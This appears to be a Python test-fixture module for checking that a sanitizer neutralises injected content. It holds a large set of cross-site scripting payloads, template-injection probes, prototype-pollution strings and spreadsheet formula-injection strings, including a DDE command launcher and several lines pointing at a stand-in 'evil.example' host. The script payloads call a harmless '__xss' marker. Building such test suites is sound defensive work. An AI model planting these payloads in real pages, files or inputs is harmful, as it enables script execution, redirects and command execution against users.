"""Texts that would run as a script, or as a formula, where a page or a file let them.

All are our own. Each that runs calls `__xss` with a number; `hooked` finds that out.
"""

from collections.abc import Iterator
from typing import Final

_CALL: Final = "__xss({})"
#: What ends the place that a text stands in: attributes, elements of bare text, comments, JSON.
BREAKS: Final = (
    '">', "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "</noscript>", "</template>", "</xmp>", "-->", "--!>", "]]>", "*/", "?>", '"}]}</script>',
    "</svg>", "</math>", "</button>", "</a>", "</h1>", "</td></table>",
)  # fmt: skip
#: What runs in HTML by itself. `{}` is the call.
RUNNING: Final = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script/x>{}</script>",
    "<script>/*",
    "<scr<script>ipt>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    '<script type="module">{}</script>',
    "<img src=x onerror={}>",
    "<img/src=`x`/onerror={}>",
    '<img src="x" OnErRoR="{}">',
    '<img src=x onerror="&#95;_xss(0)">',
    '<img src=x:x onerror\x0b="{}">',
    "<img\nsrc=x\nonerror\n=\n{}\n>",
    "<<img src=x onerror={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{} /></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={}>#x">',
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<math><mi><xmp><img src=x onerror={}></xmp></mi></math>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<select><template><img src=x onerror={}></template></select>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<p tabindex=1 autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<body onpageshow={}>",
    "<marquee onstart={}>x</marquee>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    '<iframe src="javascript:parent.{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={}>">',
    "<style>@keyframes a{{}}</style><p style='animation:a 1s' onanimationstart={}>",
    "<link rel=stylesheet href=x onerror={}>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    "<base href=//evil.example/>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
)
#: What breaks out of an attribute and stays in the tag.
IN_A_TAG: Final = (
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    '" autofocus onfocus={} x="',
    "x onfocus={} autofocus",
    '"style="background:url(javascript:{})',
    "`onmouseover={}",
)
#: Addresses that run when they are followed: as text, in Markdown and in attributes.
ADDRESSES: Final = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "javascript:%5f_xss(0)",
    "javascript://x.example/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygwKTwvc2NyaXB0Pg==",
    "//evil.example/",
    "view-source:javascript:{}",
)
MARKDOWN: Final = (
    "[a]({})", "[a](<{}>)", "![a]({})", '[a](x "\\" onmouseover={}")', "<{}>", "[b]\n\n[b]: {}",
    "`<img src=x onerror=__xss(0)>`", "[a](x){{onclick=__xss(0)}}",
    "[[official: <img src=x onerror=__xss(0)>]]", '[[official" onclick="__xss(0): x]]',
    "&lt;img src=x onerror=__xss(0)&gt;", "| <img src=x onerror=__xss(0)> |\n|---|\n| x |",
    "* {{: onclick=__xss(0) }}", "\x02wzxhzdk:0\x03", "[a](&#x6A;avascript&#x3A;__xss(0))",
)  # fmt: skip
#: For template languages, for JSON in a script, for CSS, and in other spellings of < and ".
OTHERS: Final = (
    "{{{{7007*10001}}}}", "${{7007*10001}}", "#{{7007*10001}}", "<%= 7007*10001 %>", "{{% print(7007*10001) %}}",
    "{{{{constructor.constructor('__xss(0)')()}}}}", "%(name)s %s {{0}} {{name}}",
    '\\"-__xss(0)-\\"', "\\u003cimg src=x onerror=__xss(0)\\u003e", "'-__xss(0)-'", "${{__xss(0)}}",
    "\u2028__xss(0)\u2029", "\ufeff<script>__xss(0)</script>",
    "\uff1cscript\uff1e__xss(0)\uff1c/script\uff1e",
    "\u02bc\u02bb\u2039img src=x onerror=__xss(0)\u203a", "+ADw-script+AD4-__xss(0)+ADw-/script+AD4-",
    "%3Cimg%20src=x%20onerror=__xss(0)%3E", "&lt;svg onload=__xss(0)&gt;",
    "\u202e<script>__xss(0)</script>\u2066", "x:expression(__xss(0))", "}} body{{background:url(//evil.example/x)}}",
    "@import '//evil.example/x';", "\\3c/style>\\3cimg src=x onerror=__xss(0)>",
    '{{"__proto__":{{"innerHTML":"<img src=x onerror=__xss(0)>"}}}}', "__proto__", "constructor",
)  # fmt: skip
#: What a spreadsheet would take for a formula.
FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example","x")',
    "=cmd|'/C calc'!A0", "\uff1d1+1", "%3D1+1", '"=1+1', " =1+1", ";=1+1", "\n=1+1",
)  # fmt: skip


def _numbered() -> Iterator[str]:
    number = 0
    for form in (*RUNNING, *IN_A_TAG, *ADDRESSES, *OTHERS):
        number += 1
        yield form.format(_CALL.format(number))
    for form in MARKDOWN:
        for address in ADDRESSES if form.count("{}") else ("",):
            number += 1
            yield form.format(address.format(_CALL.format(number)))


#: All of them, each by itself.
ALL: Final = tuple(_numbered())
#: One text that leaves every place a text may stand in, and runs in each way but once.
MIX: Final = "".join(BREAKS) + (
    "<script>__xss(901)</script><img src=x onerror=__xss(902)><svg onload=__xss(903)>"
    "<math><mtext><mglyph><style><img src=x onerror=__xss(904)></style></mglyph></mtext></math>"
    "<details open ontoggle=__xss(905)><iframe srcdoc='<script>parent.__xss(906)</script>'></iframe>"
    "\" autofocus onfocus=__xss(907) x=\"' onmouseover='__xss(908)' {{7007*10001}} %(name)s "
    '[a](javascript:__xss(909)) ![a](x" onerror=__xss(910)) [[official: <b onclick=__xss(911)>]] '
    "\\u003cscript\\u003e__xss(912)\\u003c/script\\u003e &lt;img src=x onerror=__xss(913)&gt;"
)
#: A passage has 2,000 characters at most, and this stands behind the longest of the course.
LONGEST: Final = 800


def _portions() -> Iterator[str]:
    text = ""
    for number, payload in enumerate(ALL):
        more = BREAKS[number % len(BREAKS)] + payload + " "
        if len(text) + len(more) > LONGEST:
            yield text
            text = ""
        text += more
    yield text


#: The whole list in as many texts as it takes.
PORTIONS: Final = tuple(_portions())
#: Short enough for a name.
SHORT: Final = (
    '"><img src=x onerror=__xss(951)>', "'><svg onload=__xss(952)>", "</title><script>__xss(953)</script>",
    '" autofocus onfocus=__xss(954) x="', "</textarea><svg onload=__xss(955)>", "{{7007*10001}}${7007*10001}",
    "javascript:__xss(956)", "</script><script>__xss(957)</script>",
)  # fmt: skip
